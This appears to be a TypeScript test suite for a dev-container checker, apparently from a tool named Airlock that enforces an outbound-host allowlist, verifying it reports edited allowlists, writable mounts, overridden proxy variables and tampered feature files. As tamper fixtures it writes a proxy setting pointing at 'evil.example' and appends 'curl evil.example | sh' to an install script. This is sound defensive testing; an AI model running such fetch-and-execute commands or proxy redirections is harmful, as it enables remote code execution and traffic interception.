import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { checkDevcontainer, planDevcontainer, writeDevcontainer } from '../../../extension/core/devcontainer';
import { APPROVED, prepareCase, tempDir } from './fixtureCases';

/** The no-config fixture gets the shipped Feature's local key; four-spaces uses a published Feature. */
const KEY = '"./airlock"';
const PUBLISHED_KEY = '"registry.example.com/acme/features/airlock:1"';

describe('checkDevcontainer', () => {
	const cleanups: string[] = [];
	afterEach(() => {
		for (const dir of cleanups.splice(0)) {
			fs.rmSync(dir, { recursive: true, force: true });
		}
	});

	/** A workspace generated from `fixture`, then edited by `edit` as a person (or an agent) might. */
	function generatedThenEdited(fixture: string, edit: (text: string) => string): { workspace: string; file: string } {
		const { workspace, options } = prepareCase(fixture);
		cleanups.push(path.dirname(workspace));
		const plan = planDevcontainer(options);
		writeDevcontainer(plan, options);
		fs.writeFileSync(plan.file, edit(plan.after));
		return { workspace, file: plan.file };
	}

	function lineOf(file: string, needle: string): number {
		return fs.readFileSync(file, 'utf8').split('\n').findIndex((l) => l.includes(needle)) + 1;
	}

	it('lists hosts that are in devcontainer.json but not approved, and the reverse', () => {
		const { workspace, file } = generatedThenEdited('four-spaces', (t) =>
			t.replace('"allow": "*.example.org,api.example.com,github.com,github.com:22"', '"allow": "a.com,api.example.com,b.com,c.com"'),
		);
		const result = checkDevcontainer(workspace, APPROVED);
		const line = lineOf(file, '"allow"');
		assert.deepEqual(result, {
			ok: false,
			file,
			problems: [
				`${file}:${line}:13: features[${PUBLISHED_KEY}].allow has 3 hosts the approved plan does not: a.com, b.com, c.com; run \`airlock generate\``,
				`${file}:${line}:13: features[${PUBLISHED_KEY}].allow lacks 3 hosts the approved plan has: *.example.org, github.com, github.com:22; run \`airlock generate\``,
			],
		});
	});

	it('names wrong option values and types, and options Airlock does not set', () => {
		const { workspace } = generatedThenEdited('no-config', (t) =>
			t.replace('"mode": "enforce"', '"mode": "audit"').replace('"proxyPort": "3128"', '"proxyPort": 3128').replace('"allowSudo": false', '"allowSudo": true, "extra": 1'),
		);
		const problems = checkDevcontainer(workspace, APPROVED).problems.map((p) => p.replace(/^.*?: /, ''));
		assert.deepEqual(problems, [
			`features[${KEY}].mode is "audit", the approved plan says "enforce"; run \`airlock generate\``,
			`features[${KEY}].proxyPort is 3128, the approved plan says "3128"; run \`airlock generate\``,
			`features[${KEY}].allowSudo is true, the approved plan says false; run \`airlock generate\``,
			`features[${KEY}] has options Airlock does not set: extra; run \`airlock generate\``,
		]);
	});

	it('reports a second Airlock entry and a missing one', () => {
		const { workspace } = generatedThenEdited('no-config', (t) => t.replace('"features": {', '"features": {\n\t\t"ghcr.io/airlock-dev/features/airlock:0.0.1": {},'));
		assert.match(checkDevcontainer(workspace, APPROVED).problems.join('\n'), /features has an Airlock entry "ghcr\.io\/airlock-dev\/features\/airlock:0\.0\.1" that is not the expected "\.\/airlock"/);
		const removed = generatedThenEdited('no-config', (t) => t.replace(/"\.\/airlock": \{[^}]*\}/, '"ghcr.io/devcontainers/features/node:1": {}'));
		assert.match(checkDevcontainer(removed.workspace, APPROVED).problems.join('\n'), /features has no Airlock entry \(expected "\.\/airlock"\)/);
	});

	it('reports a writable .devcontainer mount, in string or object form', () => {
		const stringForm = generatedThenEdited('no-config', (t) => t.replace('type=bind,readonly"', 'type=bind"'));
		assert.match(checkDevcontainer(stringForm.workspace, APPROVED).problems.join('\n'), /mounts entry for \.devcontainer is writable/);
		const objectForm = generatedThenEdited('no-config', (t) =>
			t.replace(/"source=\$\{localWorkspaceFolder\}\/\.devcontainer,[^"]*"/, '{ "source": "${localWorkspaceFolder}/.devcontainer", "target": "${containerWorkspaceFolder}/.devcontainer", "type": "bind", "readonly": true }'),
		);
		assert.match(checkDevcontainer(objectForm.workspace, APPROVED).problems.join('\n'), /mounts entry for \.devcontainer is writable/);
		const gone = generatedThenEdited('root-config', (t) => t.replace(/,\n\s*"source=\$\{localWorkspaceFolder\}\/\.devcontainer\.json[^"]*"/, ''));
		assert.match(checkDevcontainer(gone.workspace, APPROVED).problems.join('\n'), /mounts has no read-only bind of \.devcontainer\.json/);
	});

	it('reports stale or missing proxy variables in containerEnv, and proxy variables in remoteEnv, but ignores other keys', () => {
		const { workspace } = generatedThenEdited('remoteenv-existing', (t) =>
			t.replace('"EDITOR": "code --wait"', '"EDITOR": "vim", "HTTP_PROXY": "http://evil.example:3128"')
				.replace('"https_proxy": "http://127.0.0.1:3128",\n', '')
				.replace('"NO_PROXY": "localhost,127.0.0.1,::1"', '"NO_PROXY": "*"'),
		);
		const problems = checkDevcontainer(workspace, APPROVED).problems.map((p) => p.replace(/^.*?: /, ''));
		assert.deepEqual(problems, [
			'remoteEnv.HTTP_PROXY is "http://evil.example:3128", which overrides Airlock\'s "http://127.0.0.1:3128" for the editor\'s processes; run `airlock generate`',
			'containerEnv.https_proxy is missing, expected "http://127.0.0.1:3128" (every process in the container, not only the editor\'s, must use the proxy); run `airlock generate`',
			'containerEnv.NO_PROXY is "*", expected "localhost,127.0.0.1,::1" (every process in the container, not only the editor\'s, must use the proxy); run `airlock generate`',
		]);
	});

	it('names a missing waitFor, accepts a waitFor the user chose, and leaves updateRemoteUserUID to the user', () => {
		const { workspace } = generatedThenEdited('no-config', (t) => t.replace(/,\n\s*"waitFor": "postStartCommand"/, ',\n\t"updateRemoteUserUID": true'));
		const problems = checkDevcontainer(workspace, APPROVED).problems.map((p) => p.replace(/^.*?: /, ''));
		assert.deepEqual(problems, [
			'waitFor is missing, expected "postStartCommand" (editors then connect only after the lock; a waitFor you set yourself is kept); run `airlock generate`',
		]);
		const chosen = generatedThenEdited('no-config', (t) => t.replace('"waitFor": "postStartCommand"', '"waitFor": "onCreateCommand"'));
		assert.deepEqual(checkDevcontainer(chosen.workspace, APPROVED).problems, []);
	});

	it('checks the Compose override file and that dockerComposeFile lists it', () => {
		const { workspace } = generatedThenEdited('compose', (t) => t.replace(',\n    "docker-compose.airlock.yml"', ''));
		const override = path.join(workspace, '.devcontainer', 'docker-compose.airlock.yml');
		fs.writeFileSync(override, fs.readFileSync(override, 'utf8').replace('read_only: true', 'read_only: false'));
		const problems = checkDevcontainer(workspace, APPROVED).problems.join('\n');
		assert.match(problems, /dockerComposeFile does not list docker-compose\.airlock\.yml/);
		assert.match(problems, /docker-compose\.airlock\.yml: differs from what Airlock writes/);
	});

	it('reports a --feature-path copy that differs from its source, and keeps an intact one without the flag', () => {
		const { workspace, options } = prepareCase('local-feature');
		cleanups.push(path.dirname(workspace));
		writeDevcontainer(planDevcontainer(options), options);
		assert.equal(checkDevcontainer(workspace, APPROVED, options).ok, true);
		// Without the flag, the copy made from a --feature-path folder is kept as it is (one rule: keep the source in use).
		assert.equal(checkDevcontainer(workspace, APPROVED).ok, true);
		fs.appendFileSync(path.join(workspace, '.devcontainer', 'airlock', 'install.sh'), 'curl evil.example | sh\n');
		assert.match(checkDevcontainer(workspace, APPROVED, options).problems.join('\n'), /\.devcontainer\/airlock: edited after Airlock wrote it \(install\.sh differ from .*feature\/airlock\); to restore it delete the folder and run `airlock generate`/);
		fs.rmSync(path.join(workspace, '.devcontainer', 'airlock'), { recursive: true });
		assert.match(checkDevcontainer(workspace, APPROVED).problems.join('\n'), /\.devcontainer\/airlock: the Feature copy the config references is missing; run `airlock generate`/);
	});

	it('says there is no configuration when there is none', () => {
		const ws = tempDir('check-none');
		cleanups.push(ws);
		assert.deepEqual(checkDevcontainer(ws, APPROVED), {
			ok: false,
			file: null,
			problems: ['no dev container configuration (.devcontainer/devcontainer.json or .devcontainer.json): run `airlock generate`'],
		});
	});
});
